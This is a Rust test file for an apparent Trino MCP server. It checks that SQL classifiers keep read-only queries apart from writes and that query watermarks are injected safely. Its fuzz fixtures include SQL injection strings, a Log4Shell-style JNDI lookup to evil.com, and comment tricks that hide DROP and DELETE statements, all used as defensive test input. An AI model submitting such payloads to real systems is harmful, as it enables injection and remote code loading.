//! Black-box tests for SQL classification and watermarking.
//!
//! Runs the same properties against both classifier strategies, then throws
//! random and hostile input at them to make sure neither ever panics.

use rand::Rng;
use rand::distributions::Alphanumeric;
use trino_mcp_server::sql::{
    LexicalClassifier, QueryClassifier, QueryVerdict, StructuralClassifier, WatermarkFields,
};

fn classifiers() -> Vec<(&'static str, Box<dyn QueryClassifier>)> {
    let structural: Box<dyn QueryClassifier> = Box::new(StructuralClassifier);
    let lexical: Box<dyn QueryClassifier> = Box::new(LexicalClassifier);
    vec![("structural", structural), ("lexical", lexical)]
}

/// Generate random string of given length
fn random_string(len: usize) -> String {
    rand::thread_rng()
        .sample_iter(&Alphanumeric)
        .take(len)
        .map(char::from)
        .collect()
}

fn random_case(s: &str) -> String {
    let mut rng = rand::thread_rng();
    s.chars()
        .map(|c| {
            if rng.gen_bool(0.5) {
                c.to_ascii_lowercase()
            } else {
                c.to_ascii_uppercase()
            }
        })
        .collect()
}

fn edge_case_strings() -> Vec<String> {
    vec![
        String::new(),
        " ".to_string(),
        "\n\r\t".to_string(),
        "\0".to_string(),
        "🚀".repeat(100),
        "'OR 1=1--".to_string(),
        "'; DROP TABLE users--".to_string(),
        "/* unterminated".to_string(),
        "SELECT 'unterminated".to_string(),
        "SELECT \"unterminated".to_string(),
        ";;;;".to_string(),
        "((((((((".to_string(),
        "SELECT ".repeat(500),
        "a".repeat(10000),
        random_string(100),
        random_string(1000),
        "\u{0000}\u{FFFF}".to_string(),
        "\u{2028}SELECT 1\u{2029}".to_string(),
        "${jndi:ldap://evil.com/a}".to_string(),
        "\x00\x01\x02".to_string(),
    ]
}

// ============================================================================
// Read-only statements
// ============================================================================

#[test]
fn test_read_only_statements_any_case() {
    let statements = [
        "SELECT * FROM hive.web.orders",
        "SELECT count(*) FROM orders WHERE status = 'shipped'",
        "WITH recent AS (SELECT * FROM orders) SELECT * FROM recent",
        "SHOW CATALOGS",
        "SHOW SCHEMAS FROM hive",
        "SHOW TABLES FROM hive.web",
        "SHOW CREATE TABLE hive.web.orders",
        "SHOW CREATE VIEW hive.web.daily",
        "DESCRIBE hive.web.orders",
        "EXPLAIN SELECT 1",
    ];

    for (name, classifier) in classifiers() {
        for sql in statements {
            for variant in [sql.to_string(), sql.to_lowercase(), random_case(sql)] {
                assert_eq!(
                    classifier.classify(&variant),
                    QueryVerdict::ReadOnly,
                    "{} classifier: {}",
                    name,
                    variant
                );
            }
        }
    }
}

#[test]
fn test_leading_comments_do_not_change_read_only_verdict() {
    for (name, classifier) in classifiers() {
        for sql in [
            "-- report query\nSELECT 1",
            "/* dashboard */ SELECT * FROM orders",
            "/* multi\nline */\n-- and another\nSHOW CATALOGS",
        ] {
            assert_eq!(
                classifier.classify(sql),
                QueryVerdict::ReadOnly,
                "{} classifier: {}",
                name,
                sql
            );
        }
    }
}

#[test]
fn test_watermarked_query_keeps_its_verdict() {
    let fields = WatermarkFields::new()
        .with("trino_mcp_version", "0.1.0")
        .with("user", "alice");

    for (name, classifier) in classifiers() {
        for sql in ["SELECT 1", "DROP TABLE t", "SHOW CREATE TABLE t"] {
            assert_eq!(
                classifier.classify(&fields.inject(sql)),
                classifier.classify(sql),
                "{} classifier: {}",
                name,
                sql
            );
        }
    }
}

// ============================================================================
// Writes
// ============================================================================

#[test]
fn test_write_statements_any_case() {
    let statements = [
        "INSERT INTO t VALUES (1)",
        "INSERT INTO t SELECT * FROM s",
        "UPDATE t SET a = 1 WHERE id = 2",
        "DELETE FROM t WHERE id = 2",
        "CREATE TABLE t (id INT)",
        "CREATE TABLE t AS SELECT * FROM s",
        "DROP TABLE t",
        "DROP SCHEMA hive.web",
        "ALTER TABLE t ADD COLUMN b INT",
        "TRUNCATE TABLE t",
        "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE",
        "GRANT SELECT ON t TO alice",
        "REVOKE SELECT ON t FROM alice",
        "CALL system.sync_partition_metadata('web', 'orders', 'FULL')",
    ];

    for (name, classifier) in classifiers() {
        for sql in statements {
            for variant in [sql.to_string(), sql.to_lowercase(), random_case(sql)] {
                assert!(
                    classifier.classify(&variant).is_write(),
                    "{} classifier: {}",
                    name,
                    variant
                );
            }
        }
    }
}

#[test]
fn test_session_and_maintenance_commands_are_not_read_only() {
    for (name, classifier) in classifiers() {
        for sql in [
            "ANALYZE hive.web.orders",
            "REFRESH MATERIALIZED VIEW hive.web.daily",
            "COMMENT ON TABLE t IS 'orders'",
            "SET SESSION query_max_run_time = '1h'",
            "USE hive.web",
        ] {
            assert!(
                classifier.classify(sql).is_write(),
                "{} classifier: {}",
                name,
                sql
            );
        }
    }
}

#[test]
fn test_explain_analyze_is_write() {
    for (name, classifier) in classifiers() {
        for sql in [
            "EXPLAIN ANALYZE SELECT 1",
            "explain analyze select * from orders",
            "EXPLAIN (ANALYZE) SELECT 1",
        ] {
            assert!(
                classifier.classify(sql).is_write(),
                "{} classifier: {}",
                name,
                sql
            );
        }
    }
}

#[test]
fn test_comments_cannot_hide_writes() {
    for (name, classifier) in classifiers() {
        for sql in [
            "/* SELECT */ DROP TABLE t",
            "-- SELECT 1\nDELETE FROM t",
            "/* harmless */ INSERT INTO t VALUES (1) -- SELECT",
            "/* /* */ DROP TABLE t -- */ SELECT 1",
            "/* /* */ DROP TABLE t /* */ */ SELECT 1",
            "/*/**/ DELETE FROM t --*/ SHOW CATALOGS",
        ] {
            assert!(
                classifier.classify(sql).is_write(),
                "{} classifier: {}",
                name,
                sql
            );
        }
    }
}

#[test]
fn test_write_after_read_is_write() {
    for (name, classifier) in classifiers() {
        for sql in [
            "SELECT 1; DROP TABLE t",
            "SHOW CATALOGS; DELETE FROM t",
            "SHOW CREATE TABLE t; DROP TABLE t",
        ] {
            assert!(
                classifier.classify(sql).is_write(),
                "{} classifier: {}",
                name,
                sql
            );
        }
    }
}

#[test]
fn test_write_nested_in_cte_is_write() {
    let sql = "WITH gone AS (DELETE FROM t RETURNING *) SELECT * FROM gone";
    for (name, classifier) in classifiers() {
        assert!(classifier.classify(sql).is_write(), "{} classifier", name);
    }
}

#[test]
fn test_empty_input_is_not_read_only() {
    for (name, classifier) in classifiers() {
        for sql in ["", "   ", "\n\t", "-- nothing here", "/* nothing */"] {
            assert!(
                classifier.classify(sql).is_write(),
                "{} classifier: {:?}",
                name,
                sql
            );
        }
    }
}

// ============================================================================
// Fuzzing
// ============================================================================

#[test]
fn test_classifiers_never_panic_on_edge_cases() {
    for (_, classifier) in classifiers() {
        for input in edge_case_strings() {
            let _ = classifier.classify(&input);
        }
    }
}

#[test]
fn test_classifiers_never_panic_on_random_input() {
    let fragments = [
        "SELECT", "FROM", "WHERE", "DROP", "SHOW", "CREATE", "EXPLAIN", "ANALYZE", "(", ")", ";",
        "'", "\"", "--", "/*", "*/", "\n", "*", ",", "1",
    ];
    let mut rng = rand::thread_rng();

    for (_, classifier) in classifiers() {
        for _ in 0..200 {
            let len = rng.gen_range(0..40);
            let sql: Vec<&str> = (0..len)
                .map(|_| fragments[rng.gen_range(0..fragments.len())])
                .collect();
            let _ = classifier.classify(&sql.join(" "));
            let _ = classifier.classify(&random_string(rng.gen_range(0..200)));
        }
    }
}

#[test]
fn test_watermark_always_on_first_line() {
    let mut rng = rand::thread_rng();

    for _ in 0..100 {
        let mut fields = WatermarkFields::new();
        for _ in 0..rng.gen_range(0..5) {
            let key = random_string(rng.gen_range(1..10));
            let value = format!(
                "{}\n{}\r{}\u{2028}",
                random_string(5),
                random_string(5),
                random_string(5)
            );
            fields.insert(key, value);
        }

        let sql = format!("SELECT {}\nFROM t", random_string(20));
        let injected = fields.inject(&sql);
        let (comment, rest) = injected
            .split_once('\n')
            .expect("watermark is followed by a newline");

        assert!(comment.starts_with("-- {"), "{}", comment);
        assert!(comment.ends_with("} --"), "{}", comment);
        assert!(!comment.contains('\r'));
        assert!(!comment.contains('\u{2028}'));
        assert_eq!(rest, sql);

        let json = &comment[3..comment.len() - 3];
        let parsed: serde_json::Value = serde_json::from_str(json).unwrap();
        assert_eq!(parsed.as_object().unwrap().len(), fields.len());
    }
}

#[test]
fn test_watermark_with_edge_case_values() {
    for value in edge_case_strings() {
        let fields = WatermarkFields::new().with("user", &value);
        let injected = fields.inject("SELECT 1");
        assert!(injected.ends_with(" --\nSELECT 1"));
        assert_eq!(injected.matches('\n').count(), 1);
    }
}
